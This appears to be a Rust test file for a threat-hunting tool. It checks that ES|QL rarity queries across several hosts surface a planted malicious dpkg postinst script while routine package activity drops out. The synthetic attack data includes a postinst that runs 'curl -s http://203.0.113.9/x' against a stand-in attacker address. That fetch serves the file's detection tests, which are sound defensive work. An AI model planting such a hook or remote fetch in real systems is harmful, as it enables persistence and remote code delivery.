//! Rarity over several hosts: what every host does goes away, what one host does stays.

use std::fmt::Write as _;

use crate::common::{NOW_MS, sealed};
use sensor_hunt::esql::{Cell, Progress, Query, Settings};
use sensor_store::Store;

const FILES: &str = r#"
from logs-endpoint.events.file-*
| keep @timestamp, host.os.type, event.action, file.path, file.name, agent.id, process.executable
| where @timestamp > now() - 7 days
| where host.os.type == "linux" and event.action in ("creation", "rename")
    and (file.path like "/var/lib/dpkg/info/*" or file.path like "/var/lib/rpm/*")
    and not (file.name like "*-new" or file.name like "*.list")
| stats cc = count(), agents = count_distinct(agent.id) by file.name, process.executable
| where agents <= 3
| sort cc asc
| limit 100
"#;

const PROCESSES: &str = r#"
from logs-endpoint.events.process-*
| where @timestamp > now() - 7 days
| where host.os.type == "linux" and event.type == "start" and event.action == "exec"
    and (process.parent.command_line like "*/var/tmp/rpm-tmp.*" or process.parent.executable like "/var/lib/dpkg/info/*")
| stats cc = count(), agents = count_distinct(agent.id) by process.executable, process.command_line
| where agents <= 3
| sort cc asc
| limit 100
"#;

fn file(out: &mut String, agent: u32, minute: u32, action: &str, path: &str, executable: &str) {
    let name = path.rsplit('/').next().unwrap();
    writeln!(
        out,
        r#"{{"@timestamp":"2026-01-08T10:{minute:02}:00Z","agent":{{"id":"agent-{agent}"}},"host":{{"os":{{"type":"linux"}}}},"data_stream":{{"dataset":"endpoint.events.file"}},"event":{{"action":"{action}","type":["creation"],"category":["file"]}},"file":{{"path":"{path}","name":"{name}"}},"process":{{"executable":"{executable}"}}}}"#
    )
    .unwrap();
}

fn exec(out: &mut String, agent: u32, parent: &str, executable: &str, line: &str) {
    writeln!(
        out,
        r#"{{"@timestamp":"2026-01-08T11:00:00Z","agent":{{"id":"agent-{agent}"}},"host":{{"os":{{"type":"linux"}}}},"data_stream":{{"dataset":"endpoint.events.process"}},"event":{{"action":"exec","type":["start"],"category":["process"]}},"process":{{"executable":"{executable}","command_line":"{line}","parent":{{"executable":"{parent}","command_line":"/bin/sh {parent} configure"}}}}}}"#
    )
    .unwrap();
}

fn benign(out: &mut String, agent: u32) {
    for end in ["postinst", "prerm", "list", "md5sums"] {
        let path = format!("/var/lib/dpkg/info/hello.{end}");
        file(out, agent, 1, "creation", &format!("{path}-new"), "/usr/bin/dpkg");
        file(out, agent, 2, "rename", &path, "/usr/bin/dpkg");
    }
    exec(out, agent, "/var/lib/dpkg/info/hello.postinst", "/usr/sbin/ldconfig", "ldconfig");
}

fn attack(out: &mut String) {
    file(out, 1, 30, "creation", "/var/lib/dpkg/info/evil.postinst", "/usr/bin/cp");
    file(out, 1, 31, "creation", "/var/lib/dpkg/info/evil.postinst", "/usr/bin/cp");
    exec(out, 1, "/var/lib/dpkg/info/evil.postinst", "/usr/bin/curl", "curl -s http://203.0.113.9/x");
}

fn rows(query: &str, stores: &[Store]) -> Vec<String> {
    let outcome =
        Query::parse(query).unwrap().run(stores, &Settings::at(NOW_MS), &Progress::default()).unwrap();
    assert!(outcome.warnings.is_empty(), "{:?}", outcome.warnings);
    let text = |row: &Vec<Cell>| row.iter().map(ToString::to_string).collect::<Vec<_>>().join(" | ");
    outcome.rows.iter().map(text).collect()
}

#[test]
fn on_one_host_everything_is_rare() {
    let folder = tempfile::tempdir().unwrap();
    let mut events = String::new();
    benign(&mut events, 1);
    attack(&mut events);
    let store = sealed(&folder.path().join("one"), &events);
    assert_eq!(
        rows(FILES, std::slice::from_ref(&store)),
        [
            "1 | 1 | hello.postinst | /usr/bin/dpkg",
            "1 | 1 | hello.prerm | /usr/bin/dpkg",
            "1 | 1 | hello.md5sums | /usr/bin/dpkg",
            "2 | 1 | evil.postinst | /usr/bin/cp",
        ]
    );
}

#[test]
fn over_four_hosts_only_the_attack_is() {
    let folder = tempfile::tempdir().unwrap();
    // Three hosts in one store, the attacked one in another.
    let (mut others, mut attacked) = (String::new(), String::new());
    (2..=4).for_each(|agent| benign(&mut others, agent));
    benign(&mut attacked, 1);
    attack(&mut attacked);
    let stores =
        [sealed(&folder.path().join("others"), &others), sealed(&folder.path().join("attacked"), &attacked)];
    assert_eq!(rows(FILES, &stores), ["2 | 1 | evil.postinst | /usr/bin/cp"]);
    assert_eq!(rows(PROCESSES, &stores), ["1 | 1 | /usr/bin/curl | curl -s http://203.0.113.9/x"]);
    // Without the attacked host's store, nothing is rare.
    assert_eq!(
        rows(FILES, &stores[..1]),
        Vec::<String>::new()
            .into_iter()
            .chain([
                "3 | 3 | hello.postinst | /usr/bin/dpkg".to_owned(),
                "3 | 3 | hello.prerm | /usr/bin/dpkg".to_owned(),
                "3 | 3 | hello.md5sums | /usr/bin/dpkg".to_owned(),
            ])
            .collect::<Vec<_>>()
    );
}

#[test]
fn older_events_are_outside() {
    let folder = tempfile::tempdir().unwrap();
    let mut events = String::new();
    attack(&mut events);
    let store = sealed(&folder.path().join("store"), &events);
    let later = Settings::at(NOW_MS + 30 * 86_400_000);
    let query = Query::parse(FILES).unwrap();
    let outcome = query.run(std::slice::from_ref(&store), &later, &Progress::default()).unwrap();
    assert!(outcome.rows.is_empty());
    assert_eq!((outcome.scanned.rows, outcome.scanned.rows_skipped), (0, 2));
}

#[test]
fn a_period_can_be_given() {
    let folder = tempfile::tempdir().unwrap();
    let mut events = String::new();
    attack(&mut events);
    let store = sealed(&folder.path().join("store"), &events);
    // 10:31 alone.
    let first = 1_767_868_260_000;
    let settings = Settings { since_ms: Some(first), until_ms: Some(first + 60_000), ..Settings::at(NOW_MS) };
    let query = Query::parse("from logs-endpoint.events.file-* | stats c = count()").unwrap();
    let outcome = query.run(std::slice::from_ref(&store), &settings, &Progress::default()).unwrap();
    assert_eq!(outcome.rows, [[Cell::Long(1)]]);
}
